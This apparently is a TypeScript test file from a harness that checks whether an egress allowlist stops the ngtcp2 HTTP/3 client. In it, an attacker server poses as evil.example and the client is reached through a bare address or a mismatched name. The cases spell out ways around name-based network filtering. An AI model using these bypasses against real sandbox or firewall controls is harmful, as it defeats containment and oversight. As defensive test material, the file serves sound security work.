/** gtlsclient, the example client of ngtcp2: HTTP/3 over QUIC. */
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import type { Attack } from "../case.ts";
import { refused } from "../refusals.ts";
import { nameless, toolCase, type Ends } from "./tool.ts";

/** What a client was answered is in its output: then it was through. */
async function get({ job, marker, address }: Ends, port: number, name: string): Promise<unknown> {
  const args = ["--exit-on-all-streams-close", "--timeout=3s", address, String(port), `https://${name}/?${marker}`];
  const { stdout, stderr } = await job.exec("gtlsclient", args, { timeoutMs: 5_000 });
  return /\[:status: \d+\]/.test(stdout + stderr) ? "through" : (stdout + stderr).slice(-500);
}

export const ngtcp2Cases: Attack[] = [
  toolCase({
    variant: "gtlsclient: HTTP/3 to an address without a name",
    n: 165,
    server: async ({ attacker, address, job, name }) => {
      const { keyFile, certFile } = await job.lab.internet.call("certificate", { name: "evil.example" });
      const htdocs = attacker.directory(name);
      writeFileSync(join(htdocs, "index.html"), "caught\n");
      // Port 443 of every address here is WireGuard's.
      await attacker.spawn("gtlsserver", ["--quiet", "--htdocs", htdocs, address, "8443", keyFile, certFile]);
      await attacker.listening("udp", 8443);
    },
    client: (ends) => get(ends, 8443, "allowed.example"),
    ...nameless(165, 8443, "udp"),
  }),
  toolCase({
    variant: "gtlsclient: another name at the address of a host that is allowed HTTP/3",
    n: 92,
    port: 443,
    client: async (ends) => {
      await ends.job.resolve(`quic${ends.job.v}.example`);
      return get(ends, 443, "evil.example");
    },
    // What this client shows where it was given an address.
    refusal: (job) => refused("default", { name: "localhost", ip: job.dot(92), port: 443, protocol: "quic" }, "name"),
  }),
];
